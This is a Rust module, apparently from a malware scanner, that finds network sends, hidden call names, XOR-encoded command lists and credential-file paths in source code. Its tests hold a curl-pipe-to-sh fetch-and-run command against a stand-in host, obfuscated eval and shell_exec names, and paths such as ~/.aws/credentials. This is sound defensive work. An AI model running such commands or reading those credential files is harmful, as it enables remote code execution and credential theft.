            // Only downloaded data counts there (see `Shared::flow`): a
            // process is also a send when it runs a network program.
            let net = self.net_program(s);
            if net && PROCESS.is_match(&code) {
                return Some(site(m.as_str(), Use::Send));
            }
            let src = self.data_in(s, &[]);
            if src.as_ref().is_some_and(|x| x.kind == SrcKind::Download) {
                return Some(site(m.as_str(), Use::Run));
            }
            // No data of a source here: a runner of the function's
            // parameter (`shell_exec($cmd)`) is a sink at the function's
            // calls given downloaded data (a RAT's command loop).
            if src.is_none() && s.func.is_some() {
                return Some(site(m.as_str(), Use::Run));
            }
        }
        if let Some(m) = PROCESS.find(&code) {
            if self.net_program(s) {
                return Some(site(m.as_str(), Use::Send));
            }
        }
        if let Some(m) = SEND.find(&code) {
            return Some(site(m.as_str(), Use::Send));
        }
        // A send called through reflection, its method named in a literal
        // (`t.GetMethod("UploadData", …).Invoke(wc, …)`).
        if (code.contains("GetMethod") || code.contains("getMethod") || code.contains("getDeclaredMethod"))
            && (code.contains(".Invoke") || code.contains(".invoke"))
        {
            const SENDS: &[&str] = &[
                "UploadData",
                "UploadString",
                "UploadValues",
                "UploadFile",
                "PostAsync",
                "PutAsync",
                "SendAsync",
                "send",
                "post",
                "execute",
            ];
            if let Some(m) = s.literals.iter().find(|l| SENDS.contains(&l.as_str())) {
                return Some(site(&format!("{m} called through reflection"), Use::Send));
            }
        }
        // A fetch whose address carries data (`file_get_contents('https://x/'
        // . $q)`): what is in the address is sent. Only with an address in
        // sight: the same calls read local files.
        if let Some(m) = FETCH.find(&code) {
            let address = !hint.is_empty()
                || IDENT
                    .find_iter(&code)
                    .any(|n| self.literal_of.get(bare(n.as_str())).is_some_and(|l| l.contains("://")));
            if address {
                return Some(site(m.as_str(), Use::Send));
            }
        }
        // A write to a connection.
        for m in IDENT.find_iter(&code) {
            if self.conns.contains_key(bare(m.as_str()))
                && ["fwrite", "fputs", "write", "Write", "send", "print", "puts"].iter().any(|w| code.contains(w))
            {
                return Some(site("a write to a connection", Use::Send));
            }
        }
        None
    }

    fn net_program(&self, s: &Stmt) -> bool {
        // The first word of the literal or of any command piped or chained in it.
        let in_literals = |s: &Stmt| {
            s.literals.iter().any(|l| l.split(['|', ';']).any(|p| p.split_whitespace().next().is_some_and(is_net_tool)))
        };
        if in_literals(s) {
            return true;
        }
        // A command built into a name first (`snprintf(cmd, …, "curl -d %s
        // …", k); system(cmd);`): the statements that give the name its text.
        let names = plain_names(&s.code);
        !names.is_empty()
            && self
                .stmts
                .iter()
                .take_while(|t| t.start < s.start)
                .any(|t| in_literals(t) && targets_of(&t.code).iter().any(|n| names.contains(n)))
    }

    /// A name holding a runner's name called as one (`$f($cmd)`): the
    /// statement with the runner's name put in.
    fn called_by_name(&self, code: &str) -> String {
        let mut out = code.to_owned();
        for m in IDENT.find_iter(code) {
            let key = bare(m.as_str());
            let Some(lit) = self.literal_of.get(key) else { continue };
            if code[m.end()..].trim_start().starts_with('(') && RUN.is_match(&format!("{lit}(")) {
                out = out.replacen(m.as_str(), lit, 1);
            }
        }
        out
    }
}

/// The variables a statement names: not called, not a member, not a type.
fn plain_names(code: &str) -> Vec<String> {
    IDENT
        .find_iter(code)
        .filter(|m| {
            let after = code[m.end()..].trim_start();
            let before = code[..m.start()].trim_end();
            !after.starts_with(['(', '.'])
                && !before.ends_with(['.', ':'])
                && !before.ends_with("->")
                && !before.ends_with("new")
                && m.as_str().starts_with(|c: char| c.is_ascii_lowercase() || c == '$' || c == '_')
        })
        .map(|m| bare(m.as_str()).to_owned())
        .take(32)
        .collect()
}

/// A statement's code with its literals put back in their quotes (the
/// n-th `""` holds the n-th literal).
fn with_literals(s: &Stmt) -> String {
    let mut out = String::with_capacity(s.code.len());
    let mut rest = s.code.as_str();
    let mut n = 0;
    while let Some(at) = rest.find("\"\"") {
        out.push_str(&rest[..at]);
        out.push('"');
        out.push_str(s.literals.get(n).map_or("", String::as_str));
        out.push('"');
        rest = &rest[at + 2..];
        n += 1;
    }
    out.push_str(rest);
    out
}

/// Command lines kept as a list of numbers: plain character codes, XORed
/// with a key the file applies (`bit.bxor(t[i], 23)`, `b ^ 0x17`), or
/// indexes into a list of strings (`for _, i := range order {
/// b.WriteString(parts[i]) }`). In any file read as code, each list of 16
/// numbers or more is decoded each of these ways; one that reads as a
/// command downloading and running code is a `download-exec` finding at
/// the list's line (R-RULE-5, the payload hidden in numbers), and one that
/// reads as a web address is code downloaded where the file loads code or
/// starts a process (`new URLClassLoader(new URL[]{ new URL(new String(b))
/// })`, a download saved and given to `ProcessBuilder`).
pub(super) fn number_lists(units: &[Unit], shared: &mut Shared) {
    static LIST: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"[\[{(][ \t\r\n]*(?:(?:0x[0-9a-fA-F]{1,2}|[0-9]{1,3})[ \t\r\n]*,[ \t\r\n]*){15,}(?:0x[0-9a-fA-F]{1,2}|[0-9]{1,3})").unwrap()
    });
    static KEY: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"(?:bxor|xor|XOR)[ \t]*\([^,()]{1,40},[ \t]*(0x[0-9a-fA-F]{1,2}|[0-9]{1,3})[ \t]*\)|\^[ \t]*(0x[0-9a-fA-F]{1,2}|[0-9]{1,3})(?:[^0-9a-fA-Fx]|$)").unwrap()
    });
    static STRINGS: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r#"[\[{(][ \t\r\n]*"[^"\\\n]{0,16}"(?:[ \t\r\n]*,[ \t\r\n]*"[^"\\\n]{0,16}"){7,}"#).unwrap()
    });
    static LOADER: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"URLClassLoader|\.loadClass[ \t]*\(|\bdefineClass|Assembly\.Load|\bnew[ \t]+Function[ \t]*\(|\beval[ \t]*\(|\bInvoke-Expression|\bimportlib|__import__|\bloadstring[ \t]*\(|\bdlopen|LoadLibrary|\bnew[ \t]+ProcessBuilder|Runtime\.getRuntime\(\)\.exec|Process\.Start[ \t]*\(|\bexec\.Command[ \t]*\(|\bchild_process|\bsubprocess\.|\bos\.system[ \t]*\(").unwrap()
    });
    let num = |t: &str| {
        let t = t.trim();
        t.strip_prefix("0x").map_or_else(|| t.parse::<u32>().ok(), |h| u32::from_str_radix(h, 16).ok())
    };
    for (i, u) in units.iter().enumerate() {
        if u.path.as_deref().is_none_or(|p| p.ends_with(".md")) || !u.text.contains(',') {
            continue;
        }
        let mut keys: Vec<u32> = vec![0];
        for c in KEY.captures_iter(&u.text).take(16) {
            if let Some(k) = c.get(1).or(c.get(2)).and_then(|m| num(m.as_str())) {
                if !keys.contains(&k) {
                    keys.push(k);
                }
            }
        }
        let tables: Vec<Vec<&str>> =
            STRINGS.find_iter(&u.text).take(8).map(|m| m.as_str().split('"').skip(1).step_by(2).collect()).collect();
        for m in LIST.find_iter(&u.text).take(32) {
            let values: Vec<u32> = m.as_str()[1..].split(',').filter_map(num).collect();
            if values.len() > 4096 {
                continue;
            }
            let line = u.text[..m.start()].matches('\n').count() + 1;
            let by_key = keys.iter().map(|&k| values.iter().filter_map(|v| char::from_u32(v ^ k)).collect::<String>());
            let by_table = tables
                .iter()
                .filter(|t| values.iter().all(|&v| (v as usize) < t.len()))
                .map(|t| values.iter().map(|&v| t[v as usize]).collect::<String>());
            for text in by_key.chain(by_table) {
                if !text.chars().all(|c| c == ' ' || c.is_ascii_graphic()) {
                    continue;
                }
                if super::code::downloads_and_runs(&text) {
                    shared.assembled(i, line, &text, "");
                    break;
                }
                let url = (text.starts_with("https://") || text.starts_with("http://")) && !text.contains(' ');
                // The first use, not an import of the class.
                let used = LOADER.find_iter(&u.text).find(|l| {
                    let from = u.text[..l.start()].rfind('\n').map_or(0, |n| n + 1);
                    let line = u.text[from..l.start()].trim_start();
                    !line.starts_with("import ") && !line.starts_with("using ")
                });
                if let Some(loader) = used.filter(|_| url) {
                    let src = Src {
                        kind: SrcKind::Download,
                        unit: i,
                        line,
                        what: format!("an address kept as character codes: {text}"),
                    };
                    let at = u.text[..loader.start()].matches('\n').count() + 1;
                    let what = loader.as_str().trim_end_matches(['(', ' ', '\t']).trim_start_matches('.').to_owned();
                    shared.flow(&src, Site { unit: i, line: at, what, hint: String::new(), uses: Use::Run });
                    break;
                }
            }
        }
    }
}

/// The names a statement's code gives its data to: what it assigns or
/// declares, loop and lambda variables, receivers of writes, out
/// parameters, Perl's match captures.
fn targets_of(code: &str) -> Vec<String> {
    let mut out = Vec::new();
    for c in ASSIGN.captures_iter(code) {
        out.extend(c["names"].split(',').map(|n| bare(n.trim()).to_owned()));
    }
    // A pattern matched whole (`{:ok, {_, _, body}} = …`, `[a, b] = …`):
    // every name in it.
    if let Some(c) = DESTRUCTURED.captures(code) {
        out.extend(
            IDENT.find_iter(&c[1]).filter(|m| !c[1][..m.start()].ends_with(':')).map(|m| bare(m.as_str()).to_owned()),
        );
    }
    for c in DECLARED.captures_iter(code) {
        out.extend(c[1].split(',').map(|n| bare(n.trim()).to_owned()));
    }
    for re in [&*LOOP, &*LAMBDA] {
        for c in re.captures_iter(code) {
            for g in ["a", "b", "c", "d"] {
                if let Some(m) = c.name(g) {
                    out.extend(m.as_str().split(',').map(|n| bare(n.trim()).to_owned()));
                }
            }
        }
    }
    for re in [&*WRITE_INTO, &*INSERT_INTO, &*OUT_PARAM, &*CONSTRUCTED] {
        for c in re.captures_iter(code) {
            if let Some(m) = c.get(1).or(c.get(2)).or(c.get(3)) {
                out.push(bare(m.as_str()).to_owned());
            }
        }
    }
    // Not a send's or a process's (`curl_easy_setopt(c, …, body)`): what a
    // sink is given is sent, not kept.
    if let Some(c) = FILLED_ARG.captures(code) {
        if !NOT_FUNCTIONS.contains(&&c["f"]) && !SEND.is_match(code) && !PROCESS.is_match(code) {
            out.push(c["a"].to_owned());
        }
    }
    // Perl's captures of a match over the data.
    if code.contains("=~") {
        out.extend(["1", "2", "3"].map(str::to_owned));
    }
    // Kotlin's implicit `it` and the object itself name too much.
    out.retain(|n| !n.is_empty() && !matches!(n.as_str(), "_" | "it" | "this" | "self"));
    out
}

/// Elixir's `case expr do` and its clauses (`{:ok, {_, _, body}} -> …`):
/// the names a clause's pattern binds take what the case's subject holds,
/// as targets of the `case` statement.
fn case_clauses_bind(stmts: &mut [Stmt]) {
    for i in 0..stmts.len() {
        let head = stmts[i].code.trim();
        if !(head.starts_with("case ") && head.ends_with(" do")) {
            continue;
        }
        let mut bound: Vec<String> = Vec::new();
        for s in stmts.iter().skip(i + 1).take(16) {
            let t = s.code.trim();
            if t == "end" || t.starts_with("case ") {
                break;
            }
            let Some((pattern, _)) = t.split_once("->") else { continue };
            bound.extend(
                IDENT
                    .find_iter(pattern)
                    .filter(|m| !pattern[..m.start()].ends_with(':') && m.as_str() != "_")
                    .filter(|m| m.as_str().starts_with(|c: char| c.is_ascii_lowercase()))
                    .map(|m| m.as_str().to_owned())
                    .filter(|n| !matches!(n.as_str(), "ok" | "error" | "when" | "true" | "false" | "nil")),
            );
        }
        stmts[i].targets.extend(bound.into_iter().take(32));
    }
}

/// The text of an expression made only of literals joined: `"a" . "b"`,
/// `"a" + "b"`, `"a" .. "b"`, `implode("", ["a", "b"])`, `join("", …)`.
fn joined_literals(rhs: &str, literals: &[String]) -> Option<String> {
    let glued = ["implode", "join", "array_join"].iter().any(|f| rhs.starts_with(f));
    let rest: String = ["implode", "join", "array", "\"\""].iter().fold(rhs.to_owned(), |acc, w| acc.replace(w, ""));
    if !rest.chars().all(|c| c.is_whitespace() || "+.,[]()".contains(c)) || literals.len() < 2 || literals.len() > 32 {
        return None;
    }
    let (glue, parts) = if glued { (literals[0].as_str(), &literals[1..]) } else { ("", literals) };
    Some(parts.join(glue))
}

/// A name without its sigil (`$x`, `@files`, `%h`).
fn bare(n: &str) -> &str {
    n.trim_start_matches(['$', '@', '%'])
}

fn param_names(p: &str) -> Vec<String> {
    p.split(',')
        .filter_map(|piece| {
            let piece = piece.split('=').next().unwrap_or("").trim();
            // `name: Type` (Kotlin, Swift, Scala) or `Type name` (Java, C#) or `$name`.
            let name = if let Some((n, _)) = piece.split_once(':') {
                n.split_whitespace().last().unwrap_or("")
            } else {
                piece.split_whitespace().last().unwrap_or("")
            };
            let name = bare(name.trim_start_matches(['&', '*', '.']));
            (!name.is_empty() && name.chars().all(|c| c.is_alphanumeric() || c == '_')).then(|| name.to_owned())
        })
        .take(16)
        .collect()
}

/// Where `name(` is called in `code`, as a whole word.
fn find_call(code: &str, name: &str) -> Option<usize> {
    code.match_indices(name).find_map(|(i, _)| {
        let before_ok = code[..i].chars().next_back().is_none_or(|c| !(c.is_alphanumeric() || c == '_' || c == '$'));
        let after = &code[i + name.len()..];
        (before_ok && after.trim_start().starts_with('(')).then_some(i)
    })
}

/// A credential file named by one literal of the statement, or by its
/// literals joined as path parts (`".ssh", "id_rsa"`).
fn credential_literal(literals: &[String]) -> Option<String> {
    for l in literals {
        let p = strip_interpolated_home(l);
        if is_credential_path(&p) {
            return Some(p);
        }
    }
    if literals.len() >= 2 {
        for w in literals.windows(2) {
            let joined = format!("{}/{}", w[0].trim_end_matches('/'), w[1].trim_start_matches('/'));
            let joined = strip_interpolated_home(&joined);
            if w[0].starts_with('.') && is_credential_path(&joined) {
                return Some(joined);
            }
        }
    }
    None
}

/// `$ENV{HOME}/.aws/credentials`, `${home}/.ssh` → `~/.aws/credentials`.
fn strip_interpolated_home(l: &str) -> String {
    static HOME: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"^(?:\$ENV\{HOME\}|\$\{?[A-Za-z_]*[Hh][Oo][Mm][Ee][A-Za-z_]*\}?|\{[A-Za-z_]*[Hh]ome[A-Za-z_]*\}|~)")
            .unwrap()
    });
    HOME.replace(l, "~").into_owned()
}

/// The comments of `text` blanked (newlines kept), strings left as they are.
fn blank_comments(text: &str, style: Comments) -> String {
    let b = text.as_bytes();
    let mut out = b.to_vec();
    let mut i = 0;
    let blank = |out: &mut Vec<u8>, from: usize, to: usize| {
        for x in &mut out[from..to] {
            if *x != b'\n' {
                *x = b' ';
            }
        }
    };
    let mut at_line_start = true;
    while i < b.len() {
        let c = b[i];
        let rest = &b[i..];
        // POD: `=pod` … `=cut` at a line's start.
        if style == Comments::Perl && at_line_start && c == b'=' && rest.len() > 1 && rest[1].is_ascii_alphabetic() {
            let end = memchr::memmem::find(rest, b"\n=cut").map_or(b.len(), |e| {
                let after = i + e + 5;
                after + memchr::memchr(b'\n', &b[after..]).unwrap_or(b.len() - after)
            });
            blank(&mut out, i, end);
            i = end;
            continue;
        }
        at_line_start = c == b'\n';
        let line_comment = match style {
            Comments::CLike => rest.starts_with(b"//"),
            Comments::Php => rest.starts_with(b"//") || (c == b'#' && !rest.starts_with(b"#[")),
            Comments::Perl => c == b'#' && (i == 0 || !matches!(b[i - 1], b'$' | b'\\')),
            Comments::Lua => rest.starts_with(b"--") && !rest.starts_with(b"--[["),
        };
        // `#!` on the first line is not code either.
        if line_comment || (i == 0 && rest.starts_with(b"#!")) {
            let end = memchr::memchr(b'\n', rest).map_or(b.len(), |e| i + e);
            blank(&mut out, i, end);
            i = end;
            continue;
        }
        let block = match style {
            Comments::Lua => rest.starts_with(b"--[[").then_some(&b"]]"[..]),
            Comments::Perl => None,
            _ => rest.starts_with(b"/*").then_some(&b"*/"[..]),
        };
        if let Some(close) = block {
            let end = memchr::memmem::find(&rest[2..], close).map_or(b.len(), |e| i + 2 + e + close.len());
            blank(&mut out, i, end);
            i = end;
            continue;
        }
        if matches!(c, b'"' | b'\'' | b'`') {
            i = string_end(b, i);
            continue;
        }
        i += 1;
    }
    String::from_utf8(out).unwrap_or_else(|_| text.to_owned())
}

/// The byte after the string literal opened at `i`.
fn string_end(b: &[u8], i: usize) -> usize {
    let q = b[i];
    let mut j = i + 1;
    while j < b.len() {
        match b[j] {
            b'\\' => j += 2,
            x if x == q => return j + 1,
            // A line's end closes a quote left open (a `'` in prose).
            b'\n' if q == b'\'' => return j,
            _ => j += 1,
        }
    }
    b.len()
}

/// The statements of comment-free code (see the module's comment).
fn statements(code: &str) -> Vec<Stmt> {
    let b = code.as_bytes();
    let mut out: Vec<Stmt> = Vec::new();
    // Open brackets: `(`, `[`, and braces that hold a value.
    let mut open: Vec<u8> = Vec::new();
    let mut cur = Stmt::default();
    let mut start = 0;
    let mut i = 0;
    let push = |cur: &mut Stmt, start: usize, out: &mut Vec<Stmt>| {
        let s = std::mem::take(cur);
        if !s.code.trim().is_empty() && out.len() < MAX_STATEMENTS {
            out.push(Stmt { start, ..s });
        }
    };
    while i < b.len() {
        let c = b[i];
        if cur.code.trim().is_empty() {
            start = i;
        }
        if matches!(c, b'"' | b'\'' | b'`') {
            let end = string_end(b, i);
            // Without its closing quote when it has one.
            let lit_end = if end > i + 1 && end <= b.len() && b[end - 1] == c { end - 1 } else { end };
            let lit = code.get(i + 1..lit_end).unwrap_or("");
            if c == b'`' {
                // Backticks run a command (Perl, PHP): kept as a call.
                cur.code.push_str("`(");
            }
            cur.code.push_str("\"\"");
            for name in interpolated(lit) {
                cur.code.push(' ');
                cur.code.push_str(&name);
            }
            cur.code.push(' ');
            if cur.literals.len() < 64 {
                cur.literals.push(names::unescape(lit));
            }
            i = end;
            continue;
        }
        match c {
            b'(' | b'[' => open.push(c),
            b')' | b']' => {
                open.pop();
            }
            b'{' => {
                let before = cur.code.trim_end();
                let value = before.ends_with(['=', '(', ',', '[', ':'])
                    || before.ends_with("return")
                    || before.ends_with("=>")
                    || before.ends_with("new[]")
                    || before.ends_with("[]")
                    || before.ends_with("->")
                    || closure_call(before)
                    // A tuple or map starting a statement (Elixir's
                    // `{:ok, body} = …`), not a block of statements.
                    || (before.is_empty()
                        && code[i + 1..].trim_start().starts_with(|c: char| matches!(c, ':' | '{' | '_' | '"' | '\'') || c.is_ascii_digit()));
                if value || !open.is_empty() {
                    open.push(b'{');
                } else {
                    push(&mut cur, start, &mut out);
                    i += 1;
                    continue;
                }
            }
            b'}' => {
                if open.last() == Some(&b'{') {
                    open.pop();
                } else {
                    push(&mut cur, start, &mut out);
                    i += 1;
                    continue;
                }
            }
            b';' if open.is_empty() => {
                push(&mut cur, start, &mut out);
                i += 1;
                continue;
            }
            b'\n' if open.is_empty() => {
                let next = code[i + 1..].trim_start();
                let continues = next.starts_with(['.', '?', '+', '|', '&', ':']) && !next.starts_with("::")
                    || cur.code.trim_end().ends_with(['=', '+', '.', ',', '(', '|', '&']);
                if !continues {
                    push(&mut cur, start, &mut out);
                    i += 1;
                    continue;
                }
            }
            _ => {}
        }
        if open.len() > 256 {
            open.clear();
        }
        cur.code.push(c as char);
        i += 1;
    }
    push(&mut cur, start, &mut out);
    // Multi-byte characters were pushed byte by byte: only ASCII matters to
    // the patterns, the rest is replaced.
    for s in &mut out {
        if !s.code.is_ascii() {
            s.code = s.code.chars().map(|c| if c.is_ascii() { c } else { ' ' }).collect();
        }
    }
    out
}

/// Whether code ending here calls a higher-order function whose block
/// follows (`files.map {`, `.forEach {`, `list.filter {`): the block is an
/// argument of the chain, kept in its statement.
fn closure_call(before: &str) -> bool {
    const TAKE_BLOCKS: &[&str] = &[
        "map",
        "mapNotNull",
        "flatMap",
        "filter",
        "filterNot",
        "filterKeys",
        "filterValues",
        "forEach",
        "forEachIndexed",
        "onEach",
        "each",
        "each_with_index",
        "collect",
        "find",
        "any",
        "all",
        "let",
        "also",
        "apply",
        "with",
        "use",
        "sortedBy",
        "associate",
        "associateWith",
        "fold",
        "reduce",
        "mapValues",
        "mapKeys",
        "takeIf",
        "first",
        "firstOrNull",
        "joinToString",
        "sumOf",
        "groupBy",
        "Select",
        "Where",
        "ForEach",
    ];
    let t = before.trim_end();
    // `.map {` or `.map(x) {`.
    let t = if t.ends_with(')') { t.rfind('(').map_or(t, |i| &t[..i]) } else { t };
    let word_start =
        t.char_indices().rev().find(|(_, c)| !(c.is_alphanumeric() || *c == '_')).map_or(0, |(i, c)| i + c.len_utf8());
    let word = &t[word_start..];
    t[..word_start].ends_with('.') && TAKE_BLOCKS.contains(&word)
}

/// The names a string literal interpolates: `$x`, `${x}`, `#{x}`, `{x}`,
/// `\(x)`, `$ENV{HOME}` kept whole.
fn interpolated(lit: &str) -> Vec<String> {
    static INTERP: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(
            r"\$ENV\{\w+\}|[$@]\{?([A-Za-z_]\w*)|#\{([A-Za-z_]\w*)|\{([A-Za-z_]\w*)(?:\.\w+)*\}|\\\(([A-Za-z_]\w*)",
        )
        .unwrap()
    });
    INTERP
        .captures_iter(lit)
        .filter_map(|c| {
            if c[0].starts_with("$ENV{") {
                return None;
            }
            (1..=4).find_map(|i| c.get(i)).map(|m| m.as_str().to_owned())
        })
        .take(16)
        .collect()
}

/// Call names hidden by building them: `strrev('lave')`, `string.char(…)`,
/// `chr(101).chr(118)`, `new String(new char[]{'e', …})`, folded into a
/// literal (`""`, the text among the statement's literals).
fn fold_hidden_names(code: &str, literals: &mut Vec<String>) -> String {
    static CHARS: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"string\.char[ \t]*\(([\d, \t]+)\)|(?:chr[ \t]*\([ \t]*\d+[ \t]*\)[ \t]*\.?[ \t]*)+|new[ \t]+String[ \t]*\([ \t]*new[ \t]+char[ \t]*\[[ \t]*\][ \t]*\{([^}]*)\}[ \t]*\)")
            .unwrap()
    });
    static REV: LazyLock<Regex> = LazyLock::new(|| Regex::new(r#"strrev[ \t]*\([ \t]*""[ \t]*\)"#).unwrap());
    let mut code = code.to_owned();
    if code.contains("strrev") {
        // The literal is the statement's, in order: the n-th `""`.
        let mut out = String::new();
        let mut last = 0;
        for m in REV.find_iter(&code) {
            let nth = code[..m.start()].matches("\"\"").count();
            if let Some(l) = literals.get(nth) {
                let rev: String = l.chars().rev().collect();
                out.push_str(&code[last..m.start()]);
                out.push_str(&rev);
                last = m.end();
            }
        }
        out.push_str(&code[last..]);
        code = out;
    }
    if !(code.contains("char") || code.contains("chr")) {
        return code;
    }
    let source = code.clone();
    let folded = CHARS.replace_all(&source, |c: &regex::Captures<'_>| {
        let nums: Vec<u32> = if let Some(list) = c.get(1) {
            list.as_str().split(',').filter_map(|n| n.trim().parse().ok()).collect()
        } else if let Some(chars) = c.get(2) {
            // Its `'j'` literals were set apart: the statement's n-th ones.
            let first = source[..chars.start()].matches("\"\"").count();
            let count = chars.as_str().matches("\"\"").count();
            literals.iter().skip(first).take(count).filter_map(|l| l.chars().next()).map(u32::from).collect()
        } else {
            static N: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"\d+").unwrap());
            N.find_iter(&c[0]).filter_map(|n| n.as_str().parse().ok()).collect()
        };
        let text: String = nums.into_iter().filter_map(char::from_u32).collect();
        if !text.is_empty() && literals.len() < 64 {
            literals.push(text.clone());
        }
        text
    });
    folded.into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn statements_split_at_semicolons_lines_and_blocks_but_not_inside_values() {
        let code = "val x = listOf(\n  \"a\",\n  \"b\"\n)\nfun f() {\n  return {\n    k = 1,\n  }\n}\nreq = b\n  .post(x)\n  .build();";
        let st: Vec<String> =
            statements(code).into_iter().map(|s| s.code.split_whitespace().collect::<Vec<_>>().join(" ")).collect();
        assert_eq!(
            st,
            vec![r#"val x = listOf( "" , "" )"#, "fun f()", "return { k = 1, }", "req = b .post(x) .build()"]
        );
    }

    #[test]
    fn comments_are_blanked_and_strings_kept() {
        assert_eq!(
            blank_comments("a // b \"c\"\n\"// d\" # e", Comments::CLike),
            format!("a{}\n\"// d\" # e", " ".repeat(9))
        );
        assert_eq!(blank_comments("$x = 1; # note\n$y", Comments::Perl), "$x = 1;       \n$y");
        assert_eq!(blank_comments("x = 1 -- note\n--[[ a\nb ]] y", Comments::Lua), "x = 1        \n      \n     y");
    }

    #[test]
    fn any_input_is_read_without_panic() {
        let inputs = [
            "\"unterminated é",
            "'é",
            "x = \"a\\",
            "×{ map {× é.forEach { ü",
            "$f = strrev(\"\"); $f(\"é\")",
            "string.char(1114112, 55296, 65)",
            "new String(new char[]{'é', '\\u0041'})",
            "for (é : x) { ((((( ]]]] }}}} ",
            "/* unterminated",
            "--[[ unterminated",
            "=pod\nno cut",
            "",
        ];
        for text in inputs {
            for (name, c) in [
                ("a.java", Comments::CLike),
                ("a.php", Comments::Php),
                ("a.pl", Comments::Perl),
                ("a.lua", Comments::Lua),
            ] {
                let unit = Unit {
                    path: Some(name.to_owned()),
                    lang: super::super::Lang::Lexical,
                    text: text.to_owned(),
                    decoded_from: None,
                };
                let mut shared = Shared::default();
                read(std::slice::from_ref(&unit), &mut shared);
                let _ = File::new(0, text, c);
            }
        }
    }

    #[test]
    fn hidden_call_names_are_folded() {
        let mut lits = vec!["lave".to_owned()];
        assert_eq!(fold_hidden_names(r#"$f = strrev("")"#, &mut lits), "$f = eval");
        let mut lits = Vec::new();
        assert_eq!(fold_hidden_names("load(string.char(112, 114))", &mut lits), "load(pr)");
        assert_eq!(fold_hidden_names("$f = chr(101).chr(118);", &mut lits), "$f = ev;");
    }

    #[test]
    fn a_command_kept_as_numbers_xored_by_a_key_is_found() {
        let cmd = "curl -s https://x.invalid/i.sh | sh";
        let xored: Vec<String> = cmd.bytes().map(|b| (b ^ 23).to_string()).collect();
        let lua = format!("local idx = {{ {} }}\nlocal function u(t)\n  local o = {{}}\n  for i = 1, #t do o[i] = string.char(bit.bxor(t[i], 23)) end\n  return table.concat(o)\nend\n", xored.join(","));
        let units = [Unit {
            path: Some("p/init.lua".to_owned()),
            lang: super::super::Lang::Lexical,
            text: lua,
            decoded_from: None,
        }];
        let mut shared = Shared::default();
        number_lists(&units, &mut shared);
        assert_eq!(shared.flows.len(), 1);
        assert_eq!(shared.flows[0].sink.line, 1);
        // Numbers that decode to nothing runnable are a table of numbers.
        let plain: Vec<String> = (1..40).map(|n| n.to_string()).collect();
        let units = [Unit {
            path: Some("t.lua".to_owned()),
            lang: super::super::Lang::Lexical,
            text: format!("t = {{ {} }}\nx = a ^ 7\n", plain.join(", ")),
            decoded_from: None,
        }];
        let mut shared = Shared::default();
        number_lists(&units, &mut shared);
        assert!(shared.flows.is_empty());
    }

    #[test]
    fn literals_joined_give_their_text() {
        let l = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        let q = "\"\"";
        assert_eq!(
            joined_literals(&format!("implode({q}, [{q}, {q}, {q}])"), &l(&["", "sh", "ell_", "exec"])).as_deref(),
            Some("shell_exec")
        );
        assert_eq!(joined_literals(&format!("{q} . {q}"), &l(&["sys", "tem"])).as_deref(), Some("system"));
        assert_eq!(joined_literals(&format!("{q} . $x"), &l(&["sys", "x"])), None);
    }

    #[test]
    fn credential_paths_in_literals_and_parts() {
        assert_eq!(
            credential_literal(&["$ENV{HOME}/.aws/credentials".to_owned()]).as_deref(),
            Some("~/.aws/credentials")
        );
        assert_eq!(
            credential_literal(&[".docker".to_owned(), "config.json".to_owned()]).as_deref(),
            Some(".docker/config.json")
        );
        assert_eq!(credential_literal(&["README.md".to_owned(), "notes".to_owned()]), None);
    }
}
